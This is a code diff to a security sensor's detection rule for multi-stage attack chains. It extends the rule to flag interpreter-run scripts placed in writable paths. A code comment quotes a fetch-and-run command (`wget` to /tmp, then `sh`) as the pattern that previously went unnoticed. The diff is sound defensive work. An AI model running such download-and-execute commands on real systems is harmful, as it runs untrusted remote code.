@@ -11,7 +11,7 @@ from typing import Any
 from sensor.detect.rule import T1104, Context, Finding, RuleInfo, RuleSettings
 from sensor.detect.rules._common import STATE_TTL_S, _Base, _dest, _pname, _secs, _who
 from sensor.detect.view import ConnectView, ExecView, WindowView
-from sensor.telemetry.stage import FD_EXEC, MEMFD, STDIN_PIPE, STDIN_SOCKET
+from sensor.telemetry.stage import FD_EXEC, MEMFD, SCRIPT_FILE, STDIN_PIPE, STDIN_SOCKET
 
 _STAGE_TEXT = {
     "writable_path": "new executable",
@@ -146,10 +146,15 @@ class MultiStageChain(_Base):
 
     @staticmethod
     def _stage_kind(e: ExecView, ctx: Context, cfg: Settings) -> str | None:
-        if e.origin is not None:
+        if e.origin is not None and e.origin != SCRIPT_FILE:
             return e.origin
         path = e.process.executable or ""
         wb = ctx.workload(e.workload)
+        # a script run by an interpreter: where the script is, as for an
+        # executable (`wget -O /tmp/s.sh URL; sh /tmp/s.sh` ran unnoticed:
+        # the interpreter is no new executable; review)
+        if e.script.startswith(cfg.writable_paths) and not (wb is not None and e.script in wb.executables):
+            return "writable_script"
         if path and wb is not None and path in wb.executables:
             return None
         if path.startswith(cfg.writable_paths):
@@ -177,6 +182,7 @@ class MultiStageChain(_Base):
                 "pid": stage.process.pid,
                 "stage": kind,
                 **({"script_writers": list(stage.writers)} if stage.writers else {}),
+                **({"script": stage.script} if stage.script else {}),
             },
             {
                 "step": "connect",
@@ -192,7 +198,12 @@ class MultiStageChain(_Base):
             b.workload,
             b.ts,
             f"{_who(b.attr, b.workload)} connected to {_dest(a.ip, a.port, a.domain)}, then ran "
-            f"{_STAGE_TEXT.get(kind, 'new executable')} {_exe(stage)} and opened a channel to "
+            + (
+                f"the script {stage.script} with"
+                if kind == "writable_script"
+                else _STAGE_TEXT.get(kind, "new executable")
+            )
+            + f" {_exe(stage)} and opened a channel to "
             f"{_dest(b.ip, b.port, b.domain)} {_secs(abs(b.ts - a.ts))} later",
             {
                 "chain": steps,
